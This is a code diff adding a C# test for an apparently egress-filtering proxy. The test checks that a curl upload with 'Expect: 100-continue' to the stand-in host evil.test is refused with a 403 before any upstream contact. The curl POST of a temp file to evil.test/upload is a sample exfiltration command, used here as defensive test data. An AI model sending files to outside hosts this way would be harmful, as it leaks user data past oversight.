@@ -70,4 +70,26 @@ public sealed class ForwardingTests
         Assert.Equal(["BLOCKED GET https://evil.test/x?y=1 -> 403"], await harness.LogLinesAsync(1));
         Assert.Contains("BLOCKED GET https://evil.test/x?y=1 -> 403", harness.Stdout, StringComparison.Ordinal);
     }
+
+    [Fact]
+    [Trait("Spec", "G1")]
+    public async Task G1_a_blocked_upload_with_expect_100_continue_is_refused_before_any_upstream_contact()
+    {
+        await using var harness = await ProxyHarness.StartAsync();
+        var body = Path.Combine(Path.GetTempPath(), $"airut-expect-{Guid.NewGuid():N}");
+        await File.WriteAllBytesAsync(body, new byte[2 * 1024 * 1024]);
+        try
+        {
+            var result = await harness.CurlAsync("-o", "/dev/null", "-w", "%{http_code}", "-H", "Expect: 100-continue", "--data-binary", "@" + body, "https://evil.test/upload");
+
+            Assert.Equal("403", result.Stdout);
+            Assert.All(harness.Recorders, r => Assert.Equal(0, r.ConnectionCount));
+            Assert.Equal(["BLOCKED POST https://evil.test/upload -> 403"], await harness.LogLinesAsync(1));
+            await harness.AssertStillServesAsync();
+        }
+        finally
+        {
+            File.Delete(body);
+        }
+    }
 }
